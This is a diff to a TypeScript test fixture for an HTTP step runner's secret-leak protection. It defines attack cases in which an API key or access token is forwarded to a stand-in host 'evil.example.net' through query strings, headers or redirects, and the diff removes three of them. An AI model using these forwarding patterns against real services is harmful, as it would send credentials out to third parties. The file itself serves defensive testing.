@@ -5,7 +5,7 @@ import { httpStep } from './run.js'
 export const SECRET = 'S3cret/value+of=the test'
 export const TOKEN = 'the-token-of-the-issuer'
 const REF = '${AWS_SECRET:app}'
-const KEY = { type: 'API_KEY', apiKey: REF }
+export const KEY = { type: 'API_KEY', apiKey: REF }
 
 export interface Places {
   /** `http://api.example.com:PORT` and `http://evil.example.net:PORT`; both names lead to loopback. */
@@ -39,13 +39,14 @@ const sigv4 = {
   region: 'eu-west-1',
   roleArn: 'arn:aws:iam::123456789012:role/a',
 }
-const unbound = () => ({ secretHosts: [] })
+export const unbound = () => ({ secretHosts: [] })
 const following = () => ({ followRedirects: true })
-const extracting = (url: string) => httpStep('first', url, { extractors: [{ name: 'x', type: 'BODY', path: '$.x' }] })
+export const extracting = (url: string) =>
+  httpStep('first', url, { extractors: [{ name: 'x', type: 'BODY', path: '$.x' }] })
 export const sending = (url: string, given: object = { authentication: KEY }) => ({
   1: httpStep('a', url, { ...given }),
 })
-const notAllowed = 'SECRET_NOT_ALLOWED'
+export const notAllowed = 'SECRET_NOT_ALLOWED'
 
 export const attacks: Readonly<Record<string, Attack>> = {
   'another host in the URL': { steps: ({ evil }) => sending(evil), ends: notAllowed },
@@ -95,33 +96,6 @@ export const attacks: Readonly<Record<string, Attack>> = {
       (request, response) =>
         (request.method === 'POST' ? answerJson({ access_token: TOKEN }) : redirectTo(evil))(request, response),
     ends: 'passed',
-  },
-  'an answer that repeats it': {
-    steps: ({ good, evil }) => ({
-      1: httpStep('a', good, { authentication: KEY, extractors: [{ name: 'x', type: 'BODY' }] }),
-      2: httpStep('b', `${evil}/?a=\${x}`),
-    }),
-    answer: () => (request, response) => response.end(JSON.stringify(request.headers)),
-    ends: notAllowed,
-  },
-  'an answer that repeats a part of it, by way of another step': {
-    steps: ({ good, evil }) => ({
-      1: httpStep('a', good, { authentication: KEY, extractors: [{ name: 'x', type: 'BODY', regex: 'value.of' }] }),
-      2: httpStep('b', `${good}/?a=\${x}`, { extractors: [{ name: 'y', type: 'BODY' }] }),
-      3: httpStep('c', evil, { headers: { 'X-A': '${y}' } }),
-    }),
-    answer: () => (request, response) => response.end(`${request.path} ${JSON.stringify(request.headers)}`),
-    ends: notAllowed,
-  },
-  'what was obtained with it': {
-    steps: ({ good, evil }) => ({
-      1: httpStep('a', good, {
-        authentication: KEY,
-        extractors: [{ name: 'x', type: 'BODY', path: '$.access_token' }],
-      }),
-      2: httpStep('b', evil, { headers: { Authorization: 'Bearer ${x}' } }),
-    }),
-    ends: notAllowed,
   },
   'a host that an answer gives': {
     steps: ({ good }) => ({ 1: extracting(good), 2: httpStep('b', '${x}/path', { authentication: KEY }) }),
